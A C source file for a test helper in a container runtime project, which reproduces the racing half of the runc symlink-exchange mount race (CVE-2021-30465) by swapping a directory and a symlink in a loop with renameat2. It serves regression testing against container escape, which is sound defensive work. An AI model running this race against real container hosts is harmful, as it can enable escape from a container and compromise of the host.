/*
 * rename-exchange-loop: a test attacker, not part of crema. It reproduces the
 * racing half of CVE-2021-30465 (runc's symlink-exchange mount race): a process
 * that can write in a directory the runtime resolves mount destinations in
 * swaps a directory and a symlink there, as fast as it can, while the runtime
 * sets up mounts.
 *
 *   rename-exchange-loop DIR A B SECONDS
 *
 * exchanges DIR/A and DIR/B with renameat2(RENAME_EXCHANGE) until SIGTERM or
 * SIGINT, or SECONDS have passed (so it never outlives a test that died). It
 * prints "ready" once the first exchange worked and, at the end, "swaps N".
 * Static, so the same binary runs on the host and in a busybox container.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE (1 << 1)
#endif

static volatile sig_atomic_t stop;

static void on_signal(int sig)
{
	(void)sig;
	stop = 1;
}

int main(int argc, char **argv)
{
	if (argc != 5) {
		fprintf(stderr, "usage: rename-exchange-loop DIR A B SECONDS\n");
		return 2;
	}
	int dir = open(argv[1], O_PATH | O_DIRECTORY | O_CLOEXEC);
	if (dir < 0) {
		perror("rename-exchange-loop: open DIR");
		return 1;
	}
	long seconds = strtol(argv[4], NULL, 10);
	struct sigaction sa = {.sa_handler = on_signal};
	sigaction(SIGTERM, &sa, NULL);
	sigaction(SIGINT, &sa, NULL);

	struct timespec start, now;
	clock_gettime(CLOCK_MONOTONIC, &start);
	unsigned long long swaps = 0;
	while (!stop) {
		if (syscall(SYS_renameat2, dir, argv[2], dir, argv[3], RENAME_EXCHANGE)) {
			fprintf(stderr, "rename-exchange-loop: exchange %s and %s: %s\n", argv[2], argv[3],
				strerror(errno));
			return 1;
		}
		if (++swaps == 1) {
			printf("ready\n");
			fflush(stdout);
		}
		if ((swaps & 1023) == 0) {
			clock_gettime(CLOCK_MONOTONIC, &now);
			if (now.tv_sec - start.tv_sec >= seconds)
				break;
		}
	}
	printf("swaps %llu\n", swaps);
	return 0;
}
